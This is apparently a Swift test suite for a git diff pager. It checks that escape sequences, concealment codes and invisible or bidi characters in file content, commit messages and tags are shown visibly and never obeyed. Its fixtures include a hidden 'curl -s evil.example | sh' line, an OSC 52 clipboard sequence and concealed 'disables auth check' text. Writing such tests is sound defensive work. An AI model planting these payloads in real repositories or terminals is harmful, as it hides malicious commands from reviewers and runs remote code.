import Foundation
import TestSupport
import Testing

/// Content written by someone else: escape sequences, controls and invisible characters in
/// files, commit messages, author names and tag messages. Every view shows them and obeys none.
@Suite struct HostileContentTests {
    static let esc = "\u{1B}"
    /// Valid sh whose payload an OSC title sequence would hide: `: '…'; curl … | sh; : '…'`.
    static let oscPayload = ": '\(esc)]0;'; curl -s evil.example | sh; : '\u{07}'"
    static let lines = [
        oscPayload,
        "x = 1 \(esc)[8mconcealed\(esc)[m and more",  // SGR 8 (conceal) in content
        "x = \(esc)[31mred from the file\(esc)[0m;",  // SGRs git could make, inside the line
        "unterminated \(esc)]2;rest of the line",
        "two-byte \(esc)cescape",
        "if is_admin\u{200B}: pass",
        "bidi \u{202E}desrever\u{202C} end",
    ]

    /// A repository whose one commit adds, then changes, every hostile line; its message and
    /// author hide text with SGR 8, and an annotated tag's message holds an OSC sequence.
    static func repository() throws -> TemporaryDirectory {
        let dir = try TemporaryDirectory()
        _ = try dir.git("init", "-q")
        _ = try dir.write("payload.sh", lines.joined(separator: "\n") + "\n")
        _ = try dir.git("add", ".")
        _ = try dir.git("commit", "-qm", "first")
        _ = try dir.write("payload.sh", lines.map { $0 + " # changed" }.joined(separator: "\n") + "\n")
        let commit = try ToolRun.run("git", ["commit", "-qam", "Fix typo\(esc)[8m; also disables auth check\(esc)[0m"], directory: dir.path,
                                     environment: ["GIT_AUTHOR_NAME": "Mallory \(esc)[8mthe admin\(esc)[m"])
        #expect(commit.status == 0)
        _ = try dir.git("tag", "-a", "v1", "-m", "release \(esc)]52;c;ZXZpbA==\u{07}notes")
        return dir
    }

    /// Every escape sequence in `output` that is not an SGR of plain colors and attributes, and
    /// every control byte other than a newline or tab: what would reach a terminal as a command.
    static func commands(in output: [UInt8]) -> [String] {
        var found: [String] = []
        var i = 0
        while i < output.count {
            let b = output[i]
            if b == 0x1B {
                var j = i + 1
                guard j < output.count, output[j] == 0x5B else {
                    found.append("ESC at \(i)")
                    i += 1
                    continue
                }
                j += 1
                while j < output.count, (0x30...0x3B).contains(output[j]) { j += 1 }
                let params = String(decoding: output[(i + 2)..<j], as: UTF8.self).split(separator: ";").map { Int($0) ?? -1 }
                if j >= output.count || output[j] != 0x6D { found.append("CSI at \(i)") }
                // Conceal, blink, and the rest git's color syntax cannot make never leave tinge.
                var k = 0
                while k < params.count {
                    if params[k] == 38 || params[k] == 48 {
                        k += k + 1 < params.count && params[k + 1] == 2 ? 5 : 3
                        continue
                    }
                    if [5, 6, 8].contains(params[k]) { found.append("SGR \(params) at \(i)") }
                    k += 1
                }
                i = j + 1
                continue
            }
            if (b < 0x20 && b != 0x0A && b != 0x09) || b == 0x7F { found.append("control \(b) at \(i)") }
            i += 1
        }
        return found
    }

    /// The text of every view, colors removed, and what it must and must not hold.
    static func expectSafe(_ run: ToolRun, _ view: String, contentOnly: Bool = false, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(run.status == 0, "\(view): \(run.stderr)", sourceLocation: sourceLocation)
        #expect(commands(in: run.stdout).isEmpty, "\(view): \(commands(in: run.stdout).prefix(5))", sourceLocation: sourceLocation)
        let text = ANSIColors.text(run.text)
        for shown in ["^[]0;'; curl -s evil.example | sh; : '^G'", "x = 1 ^[[8mconcealed^[[m and more", "x = ^[[31mred from the file^[[0m;", "unterminated ^[]2;rest of the line",
                      "two-byte ^[cescape", "if is_admin<U+200B>: pass", "bidi <U+202E>desrever<U+202C> end"] {
            #expect(text.contains(shown), "\(view): \(shown) is not shown", sourceLocation: sourceLocation)
        }
        if !contentOnly {
            #expect(text.contains("Fix typo^[[8m; also disables auth check"), "\(view): the message", sourceLocation: sourceLocation)
            #expect(text.contains("Mallory ^[[8mthe admin^[[m"), "\(view): the author", sourceLocation: sourceLocation)
        }
    }

    @Test func thePagerShowsContentEscapesInColoredAndPlainInput() throws {
        let dir = try Self.repository()
        for color in ["always", "never"] {
            let log = try ToolRun.run("git", ["-c", "color.ui=\(color)", "log", "-p"], directory: dir.path)
            for depth in ["always", "never"] {
                let run = try InProcessRun.tinge(["--color=\(depth)", "--paging=never"], input: log.stdout, directory: dir.path)
                Self.expectSafe(run, "git log -p (color \(color)) | tinge --color=\(depth)")
            }
        }
        let plain = try ToolRun.run("git", ["-c", "color.ui=always", "log", "-p"], directory: dir.path)
        let noColor = try InProcessRun.tinge(["--paging=never"], input: plain.stdout, directory: dir.path, environment: ["NO_COLOR": "1"])
        Self.expectSafe(noColor, "NO_COLOR")
        #expect(!noColor.stdout.contains(0x1B), "NO_COLOR output holds an escape byte")
    }

    /// A word diff's lines are shown as git drew them: git's colors kept (made safe), every other
    /// escape of the content shown. Its lines have no marker column, so an SGR git's color syntax
    /// could make cannot be told from git's own there: those are taken as colors, never obeyed
    /// as anything else; conceal, which git never makes, is shown.
    @Test func aWordDiffShowsContentEscapes() throws {
        let dir = try Self.repository()
        for words in ["--color-words", "--word-diff"] {
            let log = try ToolRun.run("git", ["-c", "color.ui=always", "log", "-p", words], directory: dir.path)
            for depth in ["always", "never"] {
                let view = "git log -p \(words) | tinge --word-diff --color=\(depth)"
                let run = try InProcessRun.tinge(["--word-diff", "--color=\(depth)", "--paging=never"], input: log.stdout, directory: dir.path)
                #expect(run.status == 0, "\(view): \(run.stderr)")
                #expect(Self.commands(in: run.stdout).isEmpty, "\(view): \(Self.commands(in: run.stdout).prefix(5))")
                let text = ANSIColors.text(run.text)
                for shown in ["^[]0;'; curl -s evil.example | sh; : '^G'", "x = 1 ^[[8mconcealed", "unterminated ^[]2;rest of the line",
                              "two-byte ^[cescape", "if is_admin<U+200B>: pass", "bidi <U+202E>desrever<U+202C> end",
                              "Fix typo^[[8m; also disables auth check", "Mallory ^[[8mthe admin^[[m"] {
                    #expect(text.contains(shown), "\(view): \(shown) is not shown")
                }
            }
        }
    }

    @Test func nativeViewsShowContentEscapes() throws {
        let dir = try Self.repository()
        Self.expectSafe(try InProcessRun.tinge(["show", "--color=always", "--paging=never"], directory: dir.path), "tinge show")
        Self.expectSafe(try InProcessRun.tinge(["log", "-p", "--color=always", "--paging=never"], directory: dir.path), "tinge log -p")
        Self.expectSafe(try InProcessRun.tinge(["diff", "HEAD~1", "--color=always", "--paging=never"], directory: dir.path), "tinge diff",
                        contentOnly: true)
    }

    /// `--color-only` on git's colored diff: each line, colors aside, is git's uncolored line
    /// with its control characters shown — git's colors removed, nothing of the content.
    @Test func colorOnlyRemovesOnlyGitsColors() throws {
        let dir = try Self.repository()
        for command in [["log", "-p", "--stat"], ["show", "v1"], ["log", "--oneline", "--graph", "-p"], ["show", "--stat", "-p", "--format="],
                        ["log", "-p", "--format=%an"]] {
            let colored = try ToolRun.run("git", ["-c", "color.ui=always"] + command, directory: dir.path)
            let plain = try ToolRun.run("git", ["-c", "color.ui=never"] + command, directory: dir.path)
            let run = try InProcessRun.tinge(["--color-only"], input: colored.stdout, directory: dir.path)
            #expect(run.status == 0)
            #expect(Self.commands(in: run.stdout).isEmpty, "\(command)")
            let shown = run.stdout.split(separator: 0x0A, omittingEmptySubsequences: false).map { ANSIColors.text(String(decoding: $0, as: UTF8.self)) }
            let expected = plain.stdout.split(separator: 0x0A, omittingEmptySubsequences: false).map { ANSIColors.visible(String(decoding: $0, as: UTF8.self)) }
            #expect(shown.count == expected.count, "\(command)")
            for (out, line) in zip(shown, expected) {
                let visible = line.replacingOccurrences(of: "\u{200B}", with: "<U+200B>")
                    .replacingOccurrences(of: "\u{202E}", with: "<U+202E>").replacingOccurrences(of: "\u{202C}", with: "<U+202C>")
                #expect(out == visible, "\(command)")
            }
        }
    }

    /// A commit whose short id has no letter (one in about 28) still starts its `--oneline`
    /// entry, with `--graph` or in git's colors: its file's escapes are shown, never obeyed.
    @Test(arguments: [true, false])
    func anIdOfDigitsOnlyStillStartsACommit(graph: Bool) throws {
        let e = Self.esc
        let pad = graph ? "  " : ""
        let lines = [
            (graph ? "* " : "") + "\(e)[33m7129481\(e)[m first", pad + "\(e)[1mdiff --git a/p.sh b/p.sh\(e)[m",
            pad + "\(e)[1mnew file mode 100644\(e)[m", pad + "\(e)[1m--- /dev/null\(e)[m", pad + "\(e)[1m+++ b/p.sh\(e)[m",
            pad + "\(e)[36m@@ -0,0 +1 @@\(e)[m", pad + "\(e)[32m+\(e)[m\(e)[32mx = \(e)[31mred from the file\(e)[0m;\(e)[m",
        ]
        let input = Array((lines.joined(separator: "\n") + "\n").utf8)
        for arguments in [["--color-only"], ["--color=always", "--paging=never"]] {
            let run = try InProcessRun.tinge(arguments, input: input)
            #expect(run.status == 0)
            #expect(!run.text.contains("\(e)[31mred"), "\(arguments): the file's escape reached the terminal")
            #expect(ANSIColors.text(run.text).contains("[31mred from the file"), "\(arguments)")
        }
    }

    /// SGR 8 in a commit message hides nothing, whatever colors are asked for.
    @Test func messagesNeverPassConcealment() throws {
        let dir = try Self.repository()
        let log = try ToolRun.run("git", ["-c", "color.ui=always", "log"], directory: dir.path)
        for arguments in [["--color=never"], ["--color=always"]] {
            let run = try InProcessRun.tinge(arguments + ["--paging=never"], input: log.stdout, directory: dir.path)
            #expect(!run.text.contains("\u{1B}[8m"))
            #expect(ANSIColors.text(run.text).contains("also disables auth check"))
        }
        let dumb = try InProcessRun.tinge(["--paging=never"], input: log.stdout, directory: dir.path, environment: ["TERM": "dumb"])
        #expect(!dumb.stdout.contains(0x1B))
    }

    /// A line whose only change is its CRLF end shows the `\r` on the changed lines.
    @Test func aLineEndChangeIsSeen() throws {
        let dir = try TemporaryDirectory()
        _ = try dir.git("init", "-q")
        _ = try dir.write("dos.txt", "same\r\nend\r\n")
        _ = try dir.git("add", ".")
        _ = try dir.git("commit", "-qm", "first")
        _ = try dir.write("dos.txt", "same\r\nend\n")
        let diff = try ToolRun.run("git", ["diff"], directory: dir.path)
        let run = try InProcessRun.tinge(["--color=always", "--paging=never"], input: diff.stdout, directory: dir.path)
        let lines = ANSIColors.text(run.text).split(separator: "\n").map(String.init)
        #expect(lines.contains("-end^M"))
        #expect(lines.contains("+end"))
        #expect(lines.contains(" same"))
    }
}
